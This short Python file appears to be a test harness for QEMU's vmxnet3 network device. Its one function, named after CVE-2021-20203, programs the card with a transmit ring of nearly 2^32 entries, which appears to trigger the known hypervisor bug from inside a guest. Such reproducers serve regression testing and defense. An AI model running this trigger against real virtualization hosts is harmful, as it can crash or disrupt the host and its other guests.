# SPDX-License-Identifier: GPL-2.0
"""VMware's paravirtual network card"""

import struct

DEVICES = ("vmxnet3,netdev=net,mac=52:54:00:12:34:56",)
BACKENDS = ("-netdev hubport,id=net,hubid=0",)
# VRRS, which revisions it knows
PROBE = 1, 0x0

SHARED_LOW, SHARED_HIGH, COMMAND = 0x10, 0x18, 0x20
ACTIVATE = 0xcafe0000
MAGIC = 0xbabefee1
MTU = 1500
SIZE = 0xfffffff0


def cve_2021_20203(guest):
    """The ring of packets to be sent has nearly 2^32 entries."""
    bar = guest.device.bars[1]
    ring = guest.alloc(4096)
    # Two words of control, then where the rings are, and their sizes
    queue = guest.memory(struct.pack("<16xQQQQQIIII8x", ring, 0, ring, 0, 0, SIZE, 0, 1, 0)
                         + bytes(512))
    shared = struct.pack("<IxxxxI4xIIQQQIIIHBB", MAGIC, 1, 1, 1, 0, 0, queue, 0, 4096, MTU, 1,
                         1, 1) + bytes(512)
    bar.write(SHARED_LOW, guest.memory(shared))
    bar.write(SHARED_HIGH, 0)
    bar.write(COMMAND, ACTIVATE)
